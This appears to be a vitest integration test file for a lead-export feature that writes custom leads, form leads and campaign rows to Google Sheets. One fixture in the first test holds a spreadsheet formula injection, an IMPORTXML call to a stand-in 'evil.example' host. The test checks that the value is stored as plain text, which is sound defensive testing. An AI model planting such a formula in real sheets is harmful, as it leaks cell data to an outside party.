import type { LeadList } from '#shared/leadLists.ts';
import { and, eq } from '#server/database/drizzle.ts';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { shownAdMetric } from '#shared/campaigns.ts';
import type { AdMetricName } from '#shared/campaigns.ts';
import { listCampaigns, tabulateCampaigns } from '#shared/contracts/campaigns.ts';
import type { CampaignRow, CampaignsQuery, CampaignTableQuery } from '#shared/contracts/campaigns.ts';
import { cancelExport, exportGoogleSheet, exportList, resumeExport } from '#shared/contracts/exports.ts';
import type { BodyOf } from '#shared/contracts/endpoint.ts';
import type { ExportRun } from '#shared/contracts/exports.ts';
import { listCustomLeads } from '#shared/contracts/customLeads.ts';
import { customLeadKeys } from '#shared/customLeadColumns.ts';
import { addDays, utcDay } from '#shared/lib/dateRange.ts';
import type { changeLeads } from '#shared/contracts/leadBulk.ts';
import { changeLead, listWorkedLeads } from '#shared/contracts/leadWork.ts';
import { messages } from '#shared/messages.ts';
import { platformNames } from '#shared/platforms.ts';
import { leads as storedLeads } from '#server/database/schema.ts';
import type { LeadRecord } from '#server/database/schema/leads.ts';
import { newOwner } from '#server/modules/ads/testing/insightTests.ts';
import { awaitFirstRead, listAllLeads } from '#server/modules/leads/testing/leadTests.ts';
import { clearFaults, orderFaults, readSpreadsheets, submitLead } from '#testing/sandbox/sandboxControl.ts';
import { startTestApi } from '#testing/api/startTestApi.ts';
import type { TestApi } from '#testing/api/startTestApi.ts';
import { rowsOf } from '#server/modules/exports/testing/rowsOf.ts';
import { openWholeList } from './exportedLists.ts';
import {
  awaitState,
  importLeads,
  newPerson,
  noticesOf,
  onlySheetOf,
  readRun,
} from '#server/modules/exports/testing/exportTests.ts';
import type { Person } from '#server/modules/exports/testing/exportTests.ts';

let api: TestApi;
beforeAll(async () => {
  api = await startTestApi();
});
afterAll(() => api.close());
afterEach(() => clearFaults(api.sandbox));

const order = (person: Person, list: LeadList, search?: string) =>
  api.request(exportList, { token: person.token, body: { list, ...(search === undefined ? {} : { search }) } });

const exportWhole = async (person: Person, list: LeadList, search?: string): Promise<ExportRun> => {
  const { status, body } = await order(person, list, search);
  expect([status, body.message]).toEqual([200, messages.exports.running]);
  return awaitState(api, person, body.data.id, 'complete');
};

const cellsOf = async ({ id }: ExportRun): Promise<unknown[][]> => {
  const { sheets } = await onlySheetOf(api, id);
  // A sheet drops empty cells at the end of a row.
  return (sheets[0]?.values ?? []).map((row) =>
    Array.from({ length: sheets[0]?.columnCount ?? 0 }, (_, i) => row[i] ?? ''),
  );
};

const leadsOf = (count: number, from = 0): Record<string, string>[] =>
  Array.from({ length: count }, (_, index) => ({
    id: `lead-${from + index}`,
    Number: `00${from + index}`,
    Name: `Ada ${from + index}`,
  }));

test('all custom leads are written in list order, even more than one request could post', async () => {
  const person = await newPerson(api, 'google');
  const strange = {
    id: '120210987654321098',
    Number: '+4917000555',
    Name: '=IMPORTXML("http://evil.example/?"&A1)',
    EmailAddress: '-1+1@example.test',
    Status: 'مرحبا بالعالم',
    Project: '👩‍👩‍👧 é',
    UNIX: '007',
    StartingPrice: '1,250.00',
    created_time: '2026-11-21',
    adset_name: 'a "b", \\c\td\u0007\u2028 {1}',
  };
  await importLeads(api, person, leadsOf(6_000));
  await importLeads(api, person, [strange]);
  const run = await exportWhole(person, 'custom');
  expect(run).toMatchObject({ platform: null, rowsWritten: 6_001, rowsTotal: 6_001, error: null });
  expect(run.title).toContain('Custom leads export');

  const rowOf = (lead: Record<string, string>) => customLeadKeys.map((key) => lead[key] ?? '');
  const [titles, first, ...others] = await cellsOf(run);
  expect(titles).toEqual(customLeadKeys);
  expect(first).toEqual(rowOf(strange));
  expect(others).toEqual(leadsOf(6_000).map(rowOf));
  const [sheet] = (await onlySheetOf(api, run.id)).sheets;
  expect(sheet).toMatchObject({ rowCount: 6_002, columnCount: customLeadKeys.length, formulas: [] });
  expect(await noticesOf(api, person, run.id)).toEqual(['list_export_complete']);
});

test('leads of all sources are written with status, notes and tags, for a selection or a whole filter', async () => {
  const person = await newPerson(api, 'google');
  const { token } = person;
  await importLeads(api, person, leadsOf(3));
  const leads = (await api.request(listWorkedLeads, { token })).body.data;
  const [first, second, third] = leads;
  const won = { statusId: 'won', tags: ['hot', 'vip'], value: { amount: 12.5, currency: 'EUR' } };
  const headers = { 'If-Match': '"0"' };
  await api.request(changeLead, { token, params: { id: second?.id ?? '' }, body: won, headers });
  const exported = async (selection: Pick<BodyOf<typeof changeLeads>, 'ids' | 'filter'>) => {
    const { status, body } = await api.request(exportList, { token, body: { list: 'allLeads', ...selection } });
    expect([status, body.message]).toEqual([200, messages.exports.running]);
    const rows = await cellsOf(await awaitState(api, person, body.data.id, 'complete'));
    return rows.map((row) => row.slice(0, 11).join('|'));
  };
  const rowOf = (lead: typeof first, work: string) => `${lead?.name}||${lead?.phone}|Imported|||${work}`;
  const rows = [rowOf(first, 'New||||'), rowOf(second, 'Won||hot, vip|12.5|EUR'), rowOf(third, 'New||||')];
  const titles = 'name|email|phone_number|source|formName|campaignName|status|assignee|tags|amount|currency';
  expect(await exported({ filter: {} })).toEqual([titles, ...rows]);
  expect(await exported({ ids: leads.slice(1).map(({ id }) => id) })).toEqual([titles, ...rows.slice(1)]);
  expect(await exported({ filter: { status: 'won' } })).toEqual([titles, rows[1]]);
  const none = await api.request(exportList, { token, body: { list: 'allLeads', filter: { tag: 'cold' } } });
  expect([none.status, none.body.code]).toEqual([400, 'NOTHING_TO_EXPORT']);
  expect((await api.request(exportList, { token, body: { list: 'allLeads' } })).status).toBe(400);
});

test('a search limits the export to its matches, and an empty result creates no sheet', async () => {
  const person = await newPerson(api, 'google');
  const made = (await readSpreadsheets(api.sandbox)).length;
  expect(await order(person, 'custom')).toMatchObject({
    status: 400,
    body: { code: 'NOTHING_TO_EXPORT', message: messages.exports.nothingToExport },
  });
  await importLeads(api, person, [...leadsOf(30), { id: 'other', Name: 'Grace 100%' }]);
  const missed = await order(person, 'custom', 'nobody');
  const failed = await awaitState(api, person, missed.body.data.id, 'failed');
  expect(failed).toMatchObject({ code: 'NOTHING_TO_EXPORT', canResume: false });
  expect(await noticesOf(api, person, failed.id)).toEqual(['export_error']);
  expect(await readSpreadsheets(api.sandbox)).toHaveLength(made);

  const [, ...rows] = await cellsOf(await exportWhole(person, 'custom', '100%'));
  expect(rows.map((row) => row[1])).toEqual(['Grace 100%']);
  const { body } = await api.request(listCustomLeads, { token: person.token, query: { search: 'ada 2' } });
  expect(await exportWhole(person, 'custom', 'ada 2')).toMatchObject({ rowsTotal: body.totalItems });
});

test('all form leads are written in the same format as the leads of one page', async () => {
  const person = await newPerson(api, 'google', 'facebook');
  await awaitFirstRead(api, person, 'facebook');
  await submitLead(api.sandbox, {
    platform: 'facebook',
    fields: { full_name: '=1+1', phone_number: '+49170555' },
    webhook: false,
  });
  const leads = await listAllLeads(api, person, 'facebook');
  const posted = await api.request(exportGoogleSheet, { token: person.token, body: { data: leads } });
  const run = await exportWhole(person, 'facebook');
  expect(run.title).toContain('Facebook leads export');
  expect(await cellsOf(run)).toEqual(await cellsOf(posted.body.data));
  expect(await order(person, 'tiktok')).toMatchObject({ status: 400, body: { code: 'NOTHING_TO_EXPORT' } });
});

test('leads that arrive during the read neither shift nor duplicate rows', async () => {
  const person = await newPerson(api, 'google');
  await importLeads(api, person, leadsOf(9_000));
  const table = await openWholeList(api.context, person.workspaceId, { list: 'custom', search: '' });
  const names: unknown[] = [];
  let arrived = 9_000;
  for await (const chunk of table.chunks()) {
    // One of them updates an existing lead, which keeps its place.
    await importLeads(api, person, [...leadsOf(40, arrived), { id: 'lead-8990', Name: 'Renewed' }]);
    arrived += 40;
    names.push(...rowsOf(chunk).map((row) => row[1]));
  }
  expect(names).toHaveLength(9_000);
  expect(new Set(names).size).toBe(9_000);
  expect(names.slice(0, 3)).toEqual(['Ada 0', 'Ada 1', 'Ada 2']);
  expect(names[8_990]).toBe('Renewed');
});

test('a text that does not fit into a cell is refused anywhere in the list', async () => {
  const person = await newPerson(api, 'google');
  await importLeads(api, person, leadsOf(3));
  const isLast = and(eq(storedLeads.workspaceId, person.workspaceId), eq(storedLeads.identity, 'lead:lead-2'));
  const change = (record: LeadRecord) => api.context.db.update(storedLeads).set({ record }).where(isLast);
  const readAll = async () => {
    const list = await openWholeList(api.context, person.workspaceId, { list: 'custom', search: '' });
    const rows: unknown[] = [];
    for await (const chunk of list.chunks()) rows.push(...rowsOf(chunk));
    return rows;
  };
  // A row may be longer than a cell, and JSON escapes each quote with a second character.
  await change({ Project: '"'.repeat(50_000), country: 'x'.repeat(50_000) });
  expect(await readAll()).toHaveLength(3);
  await change({ Project: 'x'.repeat(50_001) });
  await expect(readAll()).rejects.toMatchObject({ code: 'EXPORT_TOO_LARGE' });
});

test('a search for lone surrogates, which no column can hold, is accepted', async () => {
  const person = await newPerson(api, 'google');
  await importLeads(api, person, leadsOf(3));
  const { status } = await order(person, 'custom', '\udfff\ud83d');
  expect(status).toBe(200);
});

describe('campaigns', () => {
  const today = utcDay(new Date());
  const range = { since: addDays(today, -8), until: addDays(today, -2) };
  const query: CampaignTableQuery = { ...range, columns: 'status,budget,trend,spend,ctr,collectedLeads' };
  const orderCampaigns = (person: Person, changes: Partial<CampaignTableQuery> = {}) =>
    api.request(exportList, {
      token: person.token,
      body: { list: 'campaigns', query: { ...query, ...changes } },
    });
  const readRows = async ({ token }: Person, more: Partial<CampaignsQuery> = {}): Promise<CampaignRow[]> =>
    (await api.request(listCampaigns, { token, query: { ...range, limit: '100', ...more } })).body.data.rows;

  test('all rows of a filter are written as on screen, with the previous range beside them', async () => {
    const person = await newOwner(api, ['google', 'facebook']);
    const shown = await readRows(person, { level: 'ad', compare: 'previous' });
    expect(shown.length).toBeGreaterThan(10);
    expect(shown.at(-1)).toMatchObject({ kind: 'rest', name: 'Not broken down' });
    const { status, body } = await orderCampaigns(person, { level: 'ad', compare: 'previous' });
    expect([status, body.message]).toEqual([200, messages.exports.running]);
    const run = await awaitState(api, person, body.data.id, 'complete');
    expect(run).toMatchObject({ rowsTotal: shown.length, note: null });
    expect(run.title).toContain('Campaigns export');
    const [titles, ...rows] = await cellsOf(run);
    const leading = ['Ad', 'Campaign', 'Ad set', 'Platform', 'Account', 'ID', 'Currency', 'Status'];
    const figures = ['Spend', 'Spend before', 'CTR', 'CTR before', 'Leads', 'Leads before'];
    expect(titles).toEqual([...leading, 'Daily budget', 'Lifetime budget', ...figures]);
    const anyText: unknown = expect.stringMatching(/./);
    const cell = (value: string | number | null | undefined) => value ?? '';
    const both = (row: CampaignRow, name: AdMetricName) =>
      [row.sums, row.compared].map((sums) => cell(sums && shownAdMetric(sums, name)));
    expect(rows).toEqual(
      shown.map((row) => [
        ...[row.name, row.campaignName, row.adSetName, platformNames[row.platform], row.accountName].map(cell),
        ...[row.kind === 'rest' ? '' : row.id, row.currency].map(cell),
        row.kind === 'rest' ? '' : anyText,
        ...['daily', 'lifetime'].map((kind) => (row.budget?.kind === kind ? row.budget.amount : '')),
        ...(['spend', 'ctr', 'collectedLeads'] as const).flatMap((name) => both(row, name)),
      ]),
    );
    const table = await api.request(tabulateCampaigns, {
      token: person.token,
      query: { ...query, level: 'ad', compare: 'previous' },
    });
    expect(table.body.data.columns).toEqual(titles);
    expect(table.body.data.rows.map((cells: unknown[]) => cells.map((value) => value ?? ''))).toEqual(rows);
  });

  test('only filtered rows are written, in their order, and an empty result creates no sheet', async () => {
    const person = await newOwner(api, ['google', 'facebook']);
    const filter = { platform: 'facebook', sort: 'name', order: 'asc' } as const;
    const names = (await readRows(person, filter)).map(({ name }) => name);
    const { body } = await orderCampaigns(person, filter);
    const [, ...rows] = await cellsOf(await awaitState(api, person, body.data.id, 'complete'));
    expect(rows.map(([name]) => name)).toEqual(names);
    const none = await orderCampaigns(person, { search: 'no such campaign' });
    expect([none.status, none.body.code]).toEqual([400, 'NOTHING_TO_EXPORT']);
  });

  test.each([
    { since: '2026-13-01' },
    { status: 'asleep' },
    { columns: 'spend,secret' },
    { columns: '' },
    { account: 'google' },
    { sort: 'secret' },
  ])('%o is refused with a message', async (changes) => {
    const person = await newPerson(api, 'google');
    const refused = await orderCampaigns(person, changes as Partial<CampaignTableQuery>);
    expect([refused.status, refused.body.code]).toEqual([400, 'VALIDATION']);
    const asked = await api.request(tabulateCampaigns, {
      token: person.token,
      query: { ...query, ...(changes as Partial<CampaignTableQuery>) },
    });
    expect([asked.status, asked.body.code]).toEqual([400, 'VALIDATION']);
  });
});

test('a list export that is cancelled before the read reads the list on resume', async () => {
  const person = await newPerson(api, 'google');
  await importLeads(api, person, leadsOf(10));
  await orderFaults(api.sandbox, { provider: 'google', path: '/', kind: 'slow', delayMs: 1_500, count: 1_000 });
  // Two exports use up the person's share of workers, so the third waits.
  const [, , third] = [await order(person, 'custom'), await order(person, 'custom'), await order(person, 'custom')];
  const { id } = third.body.data;
  expect((await readRun(api, person, id)).state).toBe('queued');
  expect((await api.request(cancelExport, { token: person.token, params: { id } })).status).toBe(200);
  await importLeads(api, person, leadsOf(5, 10));
  await clearFaults(api.sandbox);
  expect((await api.request(resumeExport, { token: person.token, params: { id } })).status).toBe(200);
  expect(await awaitState(api, person, id, 'complete')).toMatchObject({ rowsTotal: 15 });
});

test('a list export needs a known list name and the Google grant', async () => {
  const person = await newPerson(api);
  await importLeads(api, person, leadsOf(1));
  expect(await order(person, 'custom')).toMatchObject({ status: 403, body: { code: 'NOT_CONNECTED' } });
  const wrong = await api.request(exportList, { token: person.token, body: { list: 'users' } });
  expect([wrong.status, wrong.body.code]).toEqual([400, 'VALIDATION']);
});
